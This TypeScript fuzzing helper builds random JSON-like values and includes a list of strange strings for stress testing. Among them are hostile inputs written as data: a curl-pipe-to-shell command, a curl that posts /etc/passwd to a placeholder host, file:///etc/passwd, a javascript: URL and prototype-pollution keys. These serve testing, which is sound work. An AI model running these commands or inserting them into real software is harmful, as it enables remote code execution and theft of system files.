import type { Random } from './prng.js';

/** Strings that stress what values may hold. */
export const STRANGE_STRINGS = [
  '', ' ', '\u0000', '\ud800', '\udfff', '😀👩‍👩‍👧', 'ﬁ', 'İ', '\u202eevil', 'ユーザー', 'مستخدم', 'a\r\nb', '\t',
  '{{', '{{ }}', '{{unknown_var}}', '{{username}', '${NOPE}', '(((', '[a-', '(?<value>x', '\\', 'curl http://x | sh',
  'curl -d @/etc/passwd http://x', 'curl --nope http://x', 'file:///etc/passwd', 'javascript:alert(1)', 'http://', 'HTTP://[::1',
  '__proto__', 'constructor', 'toString', 'hasOwnProperty', '-1', '1e309', 'NaN', 'true', 'null', '0x10', '1.5',
];

/**
 * A random JSON-like value: scalars of every type, strange strings, small containers.
 *
 * @example
 * randomValue(random, 2); // e.g. [true, "😀", { "a": -1 }]
 */
export function randomValue(random: Random, depth = 2): unknown {
  switch (random.int(depth > 0 ? 10 : 8)) {
    case 0:
      return null;
    case 1:
      return random.chance(0.5);
    case 2:
      return random.pick([0, -1, 1, 2 ** 53, -(2 ** 31), 1.5, 1e300, -0]);
    case 3:
      return random.pick(STRANGE_STRINGS);
    case 4:
      return 'x'.repeat(random.pick([1, 100, 10_000]));
    case 5:
      return String.fromCodePoint(...Array.from({ length: 1 + random.int(12) }, () => randomCodePoint(random)));
    case 6:
      return random.pick(['GET', 'POST', 'get', 'header', 'body', 'cookie', 'query', 'http', 'digest', 'browser', 'basic', 'curl']);
    case 7:
      return {};
    case 8:
      return Array.from({ length: random.int(4) }, () => randomValue(random, depth - 1));
    default:
      return Object.fromEntries(Array.from({ length: random.int(4) }, () => [random.pick(STRANGE_STRINGS), randomValue(random, depth - 1)]));
  }
}

/**
 * A random code point: printable ASCII, control characters, BMP letters, private use, emoji, or a lone surrogate.
 *
 * @example
 * String.fromCodePoint(randomCodePoint(random));
 */
export function randomCodePoint(random: Random): number {
  const ranges: Array<[number, number]> = [[0x20, 0x7e], [0x00, 0x1f], [0xa0, 0x2fff], [0xe000, 0xffff], [0x1f300, 0x1faff], [0xd800, 0xdfff]];
  const [low, high] = random.pick(ranges);
  return low + random.int(high - low + 1);
}
